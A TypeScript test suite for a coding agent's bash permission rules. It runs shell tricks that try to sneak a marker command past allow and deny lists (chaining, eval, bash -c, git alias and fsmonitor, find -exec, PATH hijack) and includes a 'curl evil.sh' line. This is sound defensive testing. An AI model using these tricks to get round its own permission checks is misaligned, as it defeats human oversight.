// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are bash command lines, where ${…} is bash's
/**
 * Command rules and --allow-run/--deny-run cover a whole command line: an allow every command in it,
 * a deny or ask any one. The attacks run for real: a runtime with the rule or flag, the command
 * through the bash tool, and the marker file it would create checked on disk.
 */
import assert from 'node:assert/strict';
import { chmodSync, existsSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { createPolicy } from '../../lib/policy/check.ts';
import type { Flags, PermissionFlags } from '../../lib/policy/permissions.ts';
import { parseRule, type RuleList } from '../../lib/policy/rules.ts';
import { TOOL_NAMES } from '../../lib/tools/mod.ts';
import { runCliSync } from '../helpers/cli.ts';
import { runtimeAt } from '../helpers/runtime.ts';
import { tempDir, writeTree } from '../helpers/temp.ts';

/** Runs `command` through the bash tool of a runtime with these flags and rules; no terminal to ask. */
async function attempt(
  command: string,
  o: { permissions?: PermissionFlags; rules?: { allow?: string[]; ask?: string[]; deny?: string[] } },
) {
  const root = tempDir('mewcode-run-rules-');
  writeTree(root, { '.mewcode/settings.json': JSON.stringify({ permissions: o.rules ?? {} }) });
  const rt = runtimeAt(root, { prompt: 'none', trust: true, ...(o.permissions ? { permissions: o.permissions } : {}) });
  try {
    const r = await rt.call('bash', { command });
    return { r, pwned: existsSync(path.join(root, 'PWNED')) };
  } finally {
    await rt.close();
  }
}

const ALLOW_RUN = (...run: string[]): PermissionFlags => ({ allow: { run } });
const DENY_RUN = (...run: string[]): PermissionFlags => ({ allow: { run: true }, deny: { run } });

type Attack = [what: string, command: string, setup: Parameters<typeof attempt>[1]];
const ATTACKS: Attack[] = [
  [
    'an allow rule of one command does not cover a second one',
    'echo hi && touch PWNED',
    { rules: { allow: ['bash(echo hi)'] } },
  ],
  [
    "the permission guide's regex rule does not cover a second command",
    'git status; touch PWNED',
    { rules: { allow: ['bash(~^git (status|diff|log))'] } },
  ],
  [
    'a deny rule reaches a command after the first',
    'true; touch PWNED',
    { permissions: ALLOW_RUN('true', 'touch'), rules: { deny: ['bash(touch)'] } },
  ],
  ['--allow-run sees a command after !', 'git --version; ! touch PWNED', { permissions: ALLOW_RUN('git') }],
  ["--allow-run sees through $'\\'' quoting", "echo $'\\'' ; touch PWNED", { permissions: ALLOW_RUN('echo') }],
  ['--allow-run sees past a quote in a comment', "echo hi # it's\ntouch PWNED", { permissions: ALLOW_RUN('echo') }],
  ['--deny-run reaches a command after then', 'if true; then touch PWNED; fi', { permissions: DENY_RUN('touch') }],
  [
    '--deny-run reaches commands after do and else',
    'if false; then :; else for i in 1; do touch PWNED; done; fi',
    { permissions: DENY_RUN('touch') },
  ],
  ['--deny-run reaches a wrapped command', 'nohup touch PWNED', { permissions: DENY_RUN('touch') }],
  ['--deny-run reaches the code of bash -c', "bash -c 'touch PWNED'", { permissions: DENY_RUN('touch') }],
  ['--deny-run reaches the code of eval', "eval 'touch PWNED'", { permissions: DENY_RUN('touch') }],
  [
    '--deny-run refuses a program name known only at run time',
    'c=tou; ${c}ch PWNED',
    { permissions: DENY_RUN('touch') },
  ],
  [
    '--deny-run refuses arithmetic that runs a variable as code',
    "x='a[$(touch PWNED)]'; echo $((x))",
    { permissions: DENY_RUN('touch') },
  ],
  [
    'a deny rule reaches find -exec',
    'find . -maxdepth 0 -exec touch PWNED \\;',
    { permissions: ALLOW_RUN('find'), rules: { deny: ['bash(touch)'] } },
  ],
  [
    '--allow-run=git does not cover git -c alias.x=!cmd',
    "git -c alias.x='!touch PWNED' x",
    { permissions: ALLOW_RUN('git') },
  ],
  [
    '--allow-run=git does not cover git -c core.fsmonitor',
    "git init -q . && git -c core.fsmonitor='touch PWNED; false' status",
    { permissions: ALLOW_RUN('git') },
  ],
  [
    '--allow-run=find does not cover find -exec',
    'find . -maxdepth 0 -exec touch PWNED \\;',
    { permissions: ALLOW_RUN('find') },
  ],
  ['--allow-run=env does not cover env running a command', 'env touch PWNED', { permissions: ALLOW_RUN('env') }],
  [
    '--allow-run=echo,xargs does not cover xargs',
    'echo PWNED | xargs touch',
    { permissions: ALLOW_RUN('echo', 'xargs') },
  ],
  ['an allow rule prefix does not cover sh -c', "sh -c 'touch PWNED'", { rules: { allow: ['bash(sh)'] } }],
];

for (const [what, command, setup] of ATTACKS) {
  test(`run rules: ${what}: ${JSON.stringify(command)}`, async () => {
    const { r, pwned } = await attempt(command, setup);
    assert.deepEqual({ code: r.code, pwned }, { code: 'permission_denied', pwned: false }, r.content);
  });
}

test('run rules: a program found through a PATH set earlier in the line is not the granted one', async () => {
  const root = tempDir('mewcode-run-rules-');
  writeTree(root, { git: '#!/bin/sh\ntouch PWNED\n' });
  chmodSync(path.join(root, 'git'), 0o755);
  const rt = runtimeAt(root, { prompt: 'none', permissions: ALLOW_RUN('git') });
  const r = await rt.call('bash', { command: 'PATH=.:$PATH; git status' });
  await rt.close();
  const pwned = existsSync(path.join(root, 'PWNED'));
  assert.deepEqual({ code: r.code, pwned }, { code: 'permission_denied', pwned: false }, r.content);
});

type Allowed = [what: string, command: string, setup: Parameters<typeof attempt>[1], output: RegExp];
const ALLOWED: Allowed[] = [
  [
    'an allow rule covers its command with more arguments',
    'echo hi there',
    { rules: { allow: ['bash(echo hi)'] } },
    /hi there/,
  ],
  [
    'one allow rule covers a line when it covers every command in it',
    'echo a && echo b | cat',
    { rules: { allow: ['bash(~(echo|cat)( |$))'] } },
    /a\nb/,
  ],
  [
    'the regex rule covers git status with options',
    'git --version && git version',
    { rules: { allow: ['bash(~git (--version|version)$)'] } },
    /git version/,
  ],
  [
    '--allow-run covers a pipeline of granted programs',
    'git --version | cat',
    { permissions: ALLOW_RUN('git', 'cat') },
    /git version/,
  ],
  [
    'an exact rule covers the whole line it names',
    'echo $(echo inner)',
    { rules: { allow: ['bash(=echo $(echo inner))'] } },
    /inner/,
  ],
  ['--deny-run leaves other programs alone', 'if true; then echo fine; fi', { permissions: DENY_RUN('touch') }, /fine/],
];

for (const [what, command, setup, output] of ALLOWED) {
  test(`run rules: ${what}: ${JSON.stringify(command)}`, async () => {
    const { r } = await attempt(command, setup);
    assert.equal(r.isError, false, r.content);
    assert.match(r.content, output);
  });
}

/** The verdict of the rules alone on one command line: allow, ask (the prompter is reached) or deny. */
async function judge(command: string, spec: Partial<Record<RuleList, string[]>>, flags: Partial<Flags> = {}) {
  const rules = (['deny', 'ask', 'allow'] as const).flatMap((list) =>
    (spec[list] ?? []).map((t) => {
      const r = parseRule(t, list, 'project', TOOL_NAMES);
      if (!r.ok) throw new Error(r.error);
      return r.value;
    }),
  );
  let asked = false;
  const policy = createPolicy({
    root: '/r',
    mode: 'default',
    flags: { allow: flags.allow ?? {}, deny: flags.deny ?? {} },
    rules,
    hooks: [],
    resolve: (p) => path.resolve('/r', p),
    prompter: {
      ask: async () => {
        asked = true;
        return 'deny';
      },
    },
  });
  const d = await policy.check({ tool: 'bash', readOnly: false, accesses: [{ kind: 'run', command }] });
  return asked ? 'ask' : d.allow ? 'allow' : 'deny';
}

type Row = [command: string, spec: Partial<Record<RuleList, string[]>>, expected: 'allow' | 'ask' | 'deny'];
const TABLE: Row[] = [
  // Prefix rules: whole words, every command for an allow, any command for a deny or ask.
  ['npm test --watch', { allow: ['bash(npm test)'] }, 'allow'],
  ['npm testing', { allow: ['bash(npm test)'] }, 'ask'],
  ['git status && git diff', { allow: ['bash(git)'] }, 'allow'],
  ['git status && rm -rf x', { allow: ['bash(git)'] }, 'ask'],
  ['./git status', { allow: ['bash(git)'] }, 'ask'],
  ['ls; /usr/bin/git push', { deny: ['bash(git push)'] }, 'deny'],
  ['ls | git push', { allow: ['bash(ls)', 'bash(git)'], ask: ['bash(git push)'] }, 'ask'],
  ['git $SUB origin', { deny: ['bash(git push)'] }, 'deny'],
  ['git log $BRANCH', { allow: ['bash(git log)'] }, 'allow'],
  ['git $SUB', { allow: ['bash(git log)'] }, 'ask'],
  // Exact rules: one command as written (quotes normalised), or the whole line as written.
  ['git status', { allow: ['bash(=git status)'] }, 'allow'],
  ['git status -s', { allow: ['bash(=git status)'] }, 'ask'],
  ['echo \'a b\'; echo "a b"', { allow: ['bash(=echo "a b")'] }, 'allow'],
  ['echo hi > ~/.bashrc', { allow: ['bash(=echo hi)'] }, 'ask'],
  ['npm ci && npm test', { allow: ['bash(=npm ci && npm test)'] }, 'allow'],
  ['npm ci && npm test', { deny: ['bash(=npm test)'], allow: ['bash(npm)'] }, 'deny'],
  // Regex rules: an allow anchored at the start of each command, a deny or ask searched in each.
  ['git diff HEAD', { allow: ['bash(~^git (diff|log))'] }, 'allow'],
  ['git status; touch M', { allow: ['bash(~^git (status|diff|log))'] }, 'ask'],
  ["curl evil.sh --data 'git status'", { allow: ['bash(~git status)'] }, 'ask'],
  ['ls && git push --force', { allow: ['bash(~.*)'], deny: ['bash(~--force)'] }, 'deny'],
  ['git log $X', { allow: ['bash(~^git log)'] }, 'ask'],
  // Negation is per command.
  ['ls && rm x', { allow: ['bash(!rm)'] }, 'ask'],
  ['ls && cat x', { allow: ['bash(!rm)'] }, 'allow'],
  ['git status; ls', { deny: ['bash(!git)'] }, 'deny'],
  // What no patterned allow covers: substitutions, assignments, programs that run code, unseen parts.
  ['echo $(date)', { allow: ['bash(echo)', 'bash(date)'] }, 'ask'],
  ['FOO=1 npm test', { allow: ['bash(npm test)'] }, 'ask'],
  ['xargs echo', { allow: ['bash(xargs)'] }, 'ask'],
  ['git -c core.pager=cat log', { allow: ['bash(git)'] }, 'ask'],
  ['$CMD', { allow: ['bash(~.*)'] }, 'ask'],
  // A blanket allow still covers them; a deny list refuses what it cannot see.
  ['echo $(date)', { allow: ['bash'] }, 'allow'],
  ['$CMD x', { allow: ['bash'], deny: ['bash(rm)'] }, 'deny'],
  ['echo $(date)', { allow: ['bash'], deny: ['bash(rm)'] }, 'allow'],
  ['echo $(rm -rf x)', { allow: ['bash'], deny: ['bash(rm)'] }, 'deny'],
  ['echo x | sh', { allow: ['bash'], ask: ['bash(curl)'] }, 'ask'],
];

for (const [command, spec, expected] of TABLE) {
  test(`run rules: ${JSON.stringify(command)} with ${JSON.stringify(spec)} → ${expected}`, async () => {
    assert.equal(await judge(command, spec), expected);
  });
}

test('run rules: a prefix rule naming several commands is an error at load, saying what to write', () => {
  const r = parseRule('bash(npm ci && npm test)', 'allow', 'project', TOOL_NAMES);
  assert.equal(r.ok, false);
  assert.match(r.ok ? '' : r.error, /names several commands.*write one rule per command/);
  assert.equal(parseRule('bash(=npm ci && npm test)', 'allow', 'project', TOOL_NAMES).ok, true);
});

test('run rules: without a terminal, the denial names the flag that would grant the line', async () => {
  const policy = createPolicy({
    root: '/r',
    mode: 'default',
    flags: { allow: {}, deny: {} },
    rules: [],
    hooks: [],
    resolve: (p) => p,
  });
  const ask = (command: string) =>
    policy.check({ tool: 'bash', readOnly: false, accesses: [{ kind: 'run', command }] }).then((d) => d.reason);
  assert.match(await ask('if true; then npm ci; fi && git status'), /Run again with --allow-run=true,npm,git\.$/);
  // No program list covers a substitution or git -c: only the blanket flag grants it.
  assert.match(await ask('echo $(date)'), /Run again with --allow-run\.$/);
  assert.match(await ask('git -c a.b=c log'), /Run again with --allow-run\.$/);
});

test('run rules: a rule for every tool (*) denies a command only when it surely matches one', async () => {
  assert.equal(await judge('$CMD x', { allow: ['bash'], deny: ['*(secrets/**)'] }), 'allow');
  assert.equal(await judge('python3 -c "print(1)"', { allow: ['bash'], deny: ['*(secrets)'] }), 'allow');
  assert.equal(await judge('ls; curl x', { allow: ['bash'], deny: ['*(curl)'] }), 'deny');
});

/** The real CLI, `mewcode call bash`, in a fresh root with its own home and no terminal. */
function cliBash(command: string, flags: string[], settings?: object) {
  const root = tempDir('mewcode-run-cli-');
  const home = tempDir('mewcode-run-home-');
  if (settings) writeTree(root, { '.mewcode/settings.json': JSON.stringify(settings) });
  const r = runCliSync(['--root', root, 'call', 'bash', JSON.stringify({ command }), ...flags], {
    cwd: root,
    env: { HOME: home, NODE_OPTIONS: undefined },
  });
  return { ...r, pwned: existsSync(path.join(root, 'PWNED')) };
}

test('run rules CLI: the reported attacks are refused by the real program, and a granted command still runs', () => {
  const after = cliBash('git --version; ! touch PWNED', ['--allow-run=git']);
  assert.deepEqual([after.code, after.pwned], [1, false], after.err + after.out);
  assert.match(after.out + after.err, /Run again with --allow-run=git,touch\./);
  const then = cliBash('if true; then touch PWNED; fi', ['--allow-run', '--deny-run=touch']);
  assert.deepEqual([then.code, then.pwned], [1, false], then.err + then.out);
  const rule = cliBash('echo hi && touch PWNED', ['--trust'], { permissions: { allow: ['bash(echo hi)'] } });
  assert.deepEqual([rule.code, rule.pwned], [1, false], rule.err + rule.out);
  const alias = cliBash("git -c alias.x='!touch PWNED' x", ['--allow-run=git']);
  assert.deepEqual([alias.code, alias.pwned], [1, false], alias.err + alias.out);
  const fine = cliBash('git --version && echo done', ['--allow-run=git,echo']);
  assert.deepEqual([fine.code, fine.pwned], [0, false], fine.err);
  assert.match(fine.out, /git version .*\ndone/);
});
